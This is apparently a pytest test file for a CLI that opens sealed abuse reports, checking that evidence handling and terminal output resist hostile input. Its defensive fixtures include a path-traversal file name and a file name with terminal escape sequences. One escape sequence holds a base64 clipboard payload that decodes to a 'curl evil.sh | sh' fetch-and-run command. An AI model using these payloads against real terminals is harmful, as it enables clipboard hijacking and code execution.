"""``amparo reports open``: a sealed report, its parts and its evidence opened on a responder's
workstation through the desk's API (a real server on loopback), never on the server."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import re
import stat
import uuid
from pathlib import Path

import httpx
import pytest
from sqlalchemy import select
from typer.testing import CliRunner, Result

from amparo.cli import app
from amparo.reports import show
from core import reports
from core.crypto import seal
from core.db import transaction
from core.desk_reports import EVIDENCE_KIND
from core.messages import InboundAttachment
from core.models import AuditEntry, Defender, Evidence, utcnow
from tests.api.conftest import PASSPHRASE, Desk, Org
from tests.core.test_media import jpeg_with_gps


async def cli(
    args: list[str], site: str, token: str, passphrase: str = PASSPHRASE, lang: str = "C"
) -> Result:
    """The command in a thread (the server answers on this loop); secrets piped, as from a
    password manager, never on the command line."""
    env = {"AMPARO_DESK_URL": site, "AMPARO_API_TOKEN": token, "LC_ALL": lang}
    runner = CliRunner()
    return await asyncio.to_thread(
        runner.invoke, app, ["reports", "open", *args], input=passphrase + "\n", env=env
    )


async def file_report(desk: Desk, org: Org, photo: bytes, filename: str) -> uuid.UUID:
    assert org.defender is not None
    async with transaction(desk.sessions) as s:
        defender = await s.get(Defender, org.defender.id)
        assert defender is not None
        rid, now = uuid.uuid4(), utcnow()
        parts = [
            await reports.seal_part(
                s, defender=defender, report_id=rid, body={"text": "Two men followed me home."}
            )
        ]
        attachment = InboundAttachment("photo", "image/jpeg", len(photo), photo, filename)
        await reports.add_evidence(
            s, defender=defender, report_id=rid, attachment=attachment, now=now
        )
        body = {"format": "amparo-report-1", "perpetrator_type": "police", "parts": parts}
        filed = await reports.file(
            s, desk.vault, defender=defender, report_id=rid, triage={}, body=body, now=now
        )
    return filed.id


async def test_a_report_opens_on_a_workstation_with_its_evidence(
    desk: Desk, site: str, tmp_path: Path
) -> None:
    photo = jpeg_with_gps()
    report_id = await file_report(desk, desk.a, photo, "../../door.jpg")
    saved_dir = tmp_path / "evidence"
    done = await cli([str(report_id), "--evidence", str(saved_dir), "--json"], site, desk.a.token)
    assert done.exit_code == 0, done.output
    data = json.loads(done.stdout.strip().splitlines()[-1])
    assert data["body"]["perpetrator_type"] == "police"
    assert data["body"]["parts"] == [{"text": "Two men followed me home."}]
    [found] = data["evidence"]
    digest = hashlib.sha256(photo).hexdigest()
    assert found["sha256"] == digest and found["filename"] == "../../door.jpg"
    path = Path(found["saved_as"])
    assert path.parent == saved_dir and path.name == f"{digest[:16]}-door.jpg"  # not ../../
    assert path.read_bytes() == photo and stat.S_IMODE(path.stat().st_mode) == 0o600
    async with desk.sessions() as s:
        actions = set((await s.execute(select(AuditEntry.action))).scalars())
    assert {"report.view_sealed", "report.view_evidence", "org.keys_view"} <= actions
    text = await cli([str(report_id)], site, desk.a.token)  # for people, and nothing saved
    assert text.exit_code == 0, text.output
    assert "Two men followed me home." in text.stdout and digest in text.stdout
    assert "--evidence" in text.stdout


# Abuse case 13: what the defender's phone names a file (a Telegram document's file_name is
# whatever the sender set) reaches the responder's terminal. OSC 52 writes the clipboard; CSI
# 1A + 2K erases the line above; U+009B is the 8-bit CSI; U+202E reverses what follows.
HOSTILE = "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[1A\x1b[2K\u009b2K\u202egpj.exe\x7f"
ACTS_ON = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


async def test_what_the_phone_sent_reaches_the_terminal_without_escapes(
    desk: Desk, site: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reports, "file_name", lambda name: name)  # sealed as sent (older)
    report_id = await file_report(desk, desk.a, jpeg_with_gps(), HOSTILE)
    text = await cli([str(report_id)], site, desk.a.token)
    assert text.exit_code == 0, text.output
    assert not ACTS_ON.findall(text.stdout), repr(text.stdout)
    assert "x]52;c;" in text.stdout  # shown, its escapes dropped (core.text.file_name)
    as_json = await cli([str(report_id), "--json"], site, desk.a.token)
    assert not ACTS_ON.findall(as_json.stdout), repr(as_json.stdout)
    [found] = json.loads(as_json.stdout.strip().splitlines()[-1])["evidence"]
    assert found["filename"] == HOSTILE  # the same JSON once parsed


def test_every_field_shown_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    data = {
        "report": "5b0f3c1e-0000-4000-8000-000000000001",
        "body": {
            "format": "amparo-report-1",
            "parts": [{"te\x1bxt": "a\u009b2Kb"}],
            "note\x9b": "caf\u0085\u00e9 \u0645\u0631\u062d\u0628\u0627",
        },
        "evidence": [
            {
                "id": "e1",
                "filename": HOSTILE,
                "content_type": "image/jpeg\x1b[8m",  # the sender's mime_type, unchecked
                "size": 3,
                "sha256": "ab" * 32,
                "saved_as": None,
            }
        ],
    }
    show(data, saving=False)
    out = capsys.readouterr().out
    assert not ACTS_ON.findall(out), repr(out)
    assert "image/jpeg\\u001b[8m" in out
    assert "caf\\u0085\u00e9 \u0645\u0631\u062d\u0628\u0627" in out  # letters stay letters


async def test_an_evidence_file_moved_from_another_report_is_refused(
    desk: Desk, site: str, tmp_path: Path
) -> None:
    first = await file_report(desk, desk.a, jpeg_with_gps(), "a.jpg")
    second = await file_report(desk, desk.a, jpeg_with_gps(), "b.jpg")
    async with transaction(desk.sessions) as s:  # whoever holds the database moves a file
        moved = (await s.execute(select(Evidence).where(Evidence.report_id == first))).scalar_one()
        moved.report_id = second
    saved_dir = tmp_path / "evidence"
    done = await cli([str(second), "--json", "--evidence", str(saved_dir)], site, desk.a.token)
    assert done.exit_code == 1  # shown, not dropped, and the exit code says so
    evidence = json.loads(done.stdout.strip().splitlines()[-1])["evidence"]
    assert sorted("refused" in e for e in evidence) == [False, True]
    assert [e["refused"] for e in evidence if "refused" in e] == ["swapped"]
    assert [p.name.endswith("b.jpg") for p in saved_dir.iterdir()] == [True]


async def test_an_evidence_file_held_back_by_the_server_is_named_missing(
    desk: Desk, site: str
) -> None:
    """Whoever holds the database deletes (or the desk's API withholds) a file: every item
    handed out still opened and the command said nothing, exit code 0. The sealed body lists
    the report's files as filed: one it lists but the desk did not hand out is refused."""
    report_id = await file_report(desk, desk.a, jpeg_with_gps(), "door.jpg")
    async with transaction(desk.sessions) as s:
        gone = (await s.execute(select(Evidence))).scalar_one()
        await s.delete(gone)
    done = await cli([str(report_id), "--json"], site, desk.a.token)
    assert done.exit_code == 1, done.output
    evidence = json.loads(done.stdout.strip().splitlines()[-1])["evidence"]
    assert evidence == [{"id": str(gone.id), "refused": "missing"}]
    text = await cli([str(report_id)], site, desk.a.token)
    assert text.exit_code == 1
    assert "refused: an evidence file the report lists is missing" in text.stdout


async def plant(desk: Desk, org: Org, report_id: uuid.UUID, data: bytes) -> uuid.UUID:
    """Whoever holds the database (or just the public key and a write) seals a file that
    names the report, as core.reports.add_evidence would, and files it with the report."""
    assert org.org.public_key is not None
    planted = uuid.uuid4()
    body = {
        "report": str(report_id),
        "sha256": hashlib.sha256(data).hexdigest(),
        "size": len(data),
        "content_type": "image/jpeg",
        "filename": "planted.jpg",
        "received_at": utcnow().isoformat(),
        "original": base64.b64encode(data).decode(),
        "preview": None,
    }
    async with transaction(desk.sessions) as s:
        row = Evidence(id=planted, org_id=org.org.id, report_id=report_id, filed_at=utcnow())
        row.sealed = seal(
            org.org.public_key, org_id=org.org.id, record_id=planted, kind=EVIDENCE_KIND,
            body=body,
        )  # fmt: skip
        row.created_at = utcnow()
        s.add(row)
    return planted


async def test_an_evidence_file_the_report_does_not_list_is_refused(
    desk: Desk, site: str, tmp_path: Path
) -> None:
    """A file sealed to the public key names its report and opens: it was shown and saved as
    the defender's. The report's sealed body lists its files: one not listed is refused."""
    report_id = await file_report(desk, desk.a, jpeg_with_gps(), "door.jpg")
    planted = await plant(desk, desk.a, report_id, b"\xff\xd8\xffplanted")
    saved_dir = tmp_path / "evidence"
    done = await cli([str(report_id), "--json", "--evidence", str(saved_dir)], site, desk.a.token)
    assert done.exit_code == 1, done.output
    evidence = json.loads(done.stdout.strip().splitlines()[-1])["evidence"]
    assert {"id": str(planted), "refused": "swapped"} in evidence
    assert sorted("refused" in e for e in evidence) == [False, True]
    assert [p.name.endswith("door.jpg") for p in saved_dir.iterdir()] == [True]


async def test_a_file_name_never_reaches_the_terminal_unclean(
    desk: Desk, site: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name sealed as sent (before core.text.file_name): no escape sequence is printed."""
    monkeypatch.setattr(reports, "file_name", lambda name: name)
    report_id = await file_report(desk, desk.a, jpeg_with_gps(), "door\x1b[2J\u202egpj.exe")
    text = await cli([str(report_id)], site, desk.a.token)
    assert text.exit_code == 0, text.output
    assert "evidence door[2Jgpj.exe (image/jpeg" in text.stdout, text.stdout


async def test_it_refuses_clearly_and_never_prints_a_traceback(desk: Desk, site: str) -> None:
    report_id = await file_report(desk, desk.a, jpeg_with_gps(), "a.jpg")
    wrong = await cli([str(report_id)], site, desk.a.token, passphrase="not the passphrase")
    bad_token = await cli([str(report_id)], site, "amp_not_a_token")
    elsewhere = await cli([str(report_id)], site, desk.b.token)  # another organisation's token
    down = await cli([str(report_id)], "http://127.0.0.1:9", desk.a.token)
    for result, message in (
        (wrong, "wrong passphrase for the organisation key"),
        (bad_token, "the desk refused the API token"),
        (elsewhere, f"no report {report_id} at this desk"),
        (down, "cannot reach the desk at http://127.0.0.1:9"),
    ):
        assert result.exit_code == 2 and message in result.stderr, result.output
        assert "Traceback" not in result.output and "Two men" not in result.output
    spanish = await cli([str(report_id)], site, desk.a.token, "no es", lang="es_ES.UTF-8")
    assert "frase de contraseña incorrecta" in spanish.stderr.lower(), spanish.stderr


def test_the_token_never_goes_to_a_plain_http_desk_elsewhere(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`AMPARO_DESK_URL=http://desk.example.org` sent the API token (reports:read) in clear
    across the network. Only https://, or http:// to this machine's loopback."""
    seen: list[str] = []

    def desk(request: httpx.Request) -> httpx.Response:
        seen.append(
            f"{request.url.scheme}://{request.url.host} {request.headers['authorization']}"
        )
        return httpx.Response(401)

    real = httpx.Client
    monkeypatch.setattr(
        "httpx.Client",  # amparo.reports imports httpx when it opens a report
        lambda **kw: real(transport=httpx.MockTransport(desk), **kw),
    )
    runner, report_id = CliRunner(), str(uuid.uuid4())

    def run(url: str) -> Result:
        env = {"AMPARO_DESK_URL": url, "AMPARO_API_TOKEN": "amp_CANARY", "LC_ALL": "C"}
        return runner.invoke(app, ["reports", "open", report_id], env=env)

    for url in ("http://desk.example.org", "http://10.0.0.5:8000", "desk.example.org", "ftp://x"):
        refused = run(url)
        assert refused.exit_code == 2, refused.output
        assert "must start with https://" in refused.stderr
        assert "Traceback" not in refused.output
    assert seen == []
    allowed = ("https://desk.example.org", "http://127.0.0.1:8000", "http://[::1]:8000")
    for url in (*allowed, "http://localhost:8000"):
        assert "the desk refused the API token" in run(url).stderr, url
    assert len(seen) == 4 and all(s.endswith(" Bearer amp_CANARY") for s in seen), seen
